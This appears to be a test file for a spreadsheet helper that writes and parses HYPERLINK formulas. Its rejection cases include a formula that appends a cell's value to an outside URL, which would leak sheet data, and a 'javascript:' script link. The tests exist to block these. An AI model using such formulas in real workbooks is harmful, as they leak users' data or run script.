import { linkFormula, placeOfLink, urlOfLink } from '../../src/sheets/linkFormula';

test.each([
  [
    'https://example.com/a?b=c&d=e',
    'Alphabet',
    '=HYPERLINK("https://example.com/a?b=c&d=e","Alphabet")',
  ],
  ['https://example.com', 'The "600"', '=HYPERLINK("https://example.com","The ""600""")'],
  ['https://example.com', '《纽约时报》', '=HYPERLINK("https://example.com","《纽约时报》")'],
])('%s, shown as %s, is %s, and leads back to the address', (url, words, formula) => {
  expect(linkFormula(url, words)).toBe(formula);
  expect(urlOfLink(formula)).toBe(url);
});

test.each([
  ['=HYPERLINK("https://elsewhere.example/?"&A1,"Open")', 'sends out a cell'],
  ['=HYPERLINK("https://example.com",A1)', 'shows a cell'],
  ['=HYPERLINK("https://example.com","a")&HYPERLINK("https://example.com","b")', 'two links'],
  ['=HYPERLINK(A1,"Open")', 'a cell for an address'],
  ['=HYPERLINK("http://example.com","Open")', 'an address that is not secret'],
  ['=HYPERLINK("javascript:alert(1)","Open")', 'a script'],
  ['=HYPERLINK("#Sheet2!A1","Open")', 'a place in the workbook'],
  ['=A1', 'another formula'],
])('%s opens nothing: %s', (formula) => {
  expect(urlOfLink(formula)).toBeUndefined();
});

test.each([
  ['=HYPERLINK("#AI_Model_Verdict","Open")', 'AI_Model_Verdict', 'a name'],
  ['=HYPERLINK("#Sheet2!A1","Open")', 'Sheet2!A1', 'a cell'],
  ['=HYPERLINK("https://example.com","Open")', undefined, 'a page'],
  ['=HYPERLINK("#"&A1,"Open")', undefined, 'put together from a cell'],
])('%s goes to %s in the workbook: %s', (formula, place, _) => {
  expect(placeOfLink(formula)).toBe(place);
});
